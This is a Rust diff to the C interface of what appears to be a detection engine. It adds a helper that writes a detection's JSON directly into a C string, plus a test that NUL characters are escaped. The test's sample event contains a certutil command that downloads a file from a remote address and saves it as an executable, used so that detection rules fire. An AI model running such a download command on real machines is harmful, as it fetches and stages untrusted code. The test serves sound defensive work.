@@ -120,7 +120,19 @@ pub unsafe extern "C" fn lw_detection_event(d: *const lw_detection<'_>) -> u64 {
 #[no_mangle]
 pub unsafe extern "C" fn lw_detection_json(d: *const lw_detection<'_>) -> *const c_char {
     // SAFETY: the caller's contract.
-    unsafe { d.as_ref() }.map_or(c"".as_ptr(), |d| d.json.get_or_init(|| c_string(&d.d.to_json())).as_ptr())
+    unsafe { d.as_ref() }.map_or(c"".as_ptr(), |d| d.json.get_or_init(|| json_c_string(d.d)).as_ptr())
+}
+
+/// `d.to_json()` as a C string, written straight into the C string's
+/// buffer rather than made and then copied: the JSON writer escapes U+0000
+/// (`\u0000`), so the text has no NUL inside; were one there, it would
+/// go the way of every other string.
+fn json_c_string(d: &lw::Detection) -> CString {
+    let mut buf = Vec::with_capacity(512);
+    match d.write_json(&mut buf).ok().and_then(|()| CString::new(buf).ok()) {
+        Some(json) => json,
+        None => c_string(&d.to_json()),
+    }
 }
 
 #[cfg(test)]
@@ -148,5 +160,23 @@ mod tests {
             assert!(unsafe { lw_detection_tag(&det, f.tags.len()) }.is_null());
         }
         assert_eq!(unsafe { CStr::from_ptr(lw_detection_json(std::ptr::null())) }.to_bytes(), b"");
+    }
+
+    #[test]
+    fn a_nul_in_the_event_is_escaped_in_the_json_and_replaced_in_strings() {
+        let rules = lw::RulesBuilder::new().add_builtin().build().unwrap();
+        let mut s = lw::Scanner::new(std::sync::Arc::new(rules));
+        let ev = br#"{"EventID":1,"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -split -f http://203.0.113.9/a.txt a.exe","Computer":"ws\u00001"}"#;
+        let found = s.scan_json(ev).unwrap();
+        assert!(!found.is_empty());
+        for f in &found {
+            assert_eq!(f.host.as_deref(), Some("ws\u{0}1"));
+            let det = lw_detection::new(f);
+            let json = unsafe { CStr::from_ptr(lw_detection_json(&det)) }.to_str().unwrap();
+            assert_eq!(json, f.to_json());
+            assert!(json.contains(r#""host":"ws\u00001""#), "{json}");
+        }
+        assert_eq!(c_string("ws\u{0}1").to_str().unwrap(), "ws\u{fffd}1");
+        assert_eq!(c_string("ws1").to_bytes_with_nul(), b"ws1\0");
     }
 }
